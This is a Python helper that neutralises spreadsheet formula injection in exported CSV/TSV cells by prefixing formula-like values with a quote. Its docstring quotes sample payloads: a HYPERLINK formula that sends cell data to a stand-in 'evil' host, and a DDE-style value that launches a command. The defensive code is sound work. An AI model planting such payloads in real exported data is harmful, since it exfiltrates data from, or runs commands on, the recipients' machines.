"""Cells that spreadsheets read: a value from the data must not run as a formula.

Excel, LibreOffice and Google Sheets take a CSV/TSV cell that starts with ``=``, ``+``,
``-`` or ``@`` (or with a tab or carriage return before one) as a formula, so a label such
as ``=HYPERLINK("http://evil/?"&A1)`` or ``-2+3+cmd|' /C calc'!A0`` in a scraped page
would run on the researcher's machine. Such a cell is written with a leading ``'``, which
spreadsheets show as text and do not display. Plain numbers (``-5``, ``+3.2e4``) are left
alone: they are values, not formulas. ``export --keep-formulas`` and
``query --keep-formulas`` write cells as they are.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise_formula(value: str) -> str:
    """``value`` as a spreadsheet shows it as text: ``'`` before a cell that would be a formula.

    >>> [neutralise_formula(v) for v in ("=1+1", "@SUM(A1)", "-5", "江西省", "-1+cmd")]
    ["'=1+1", "'@SUM(A1)", '-5', '江西省', "'-1+cmd"]
    """
    if value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value
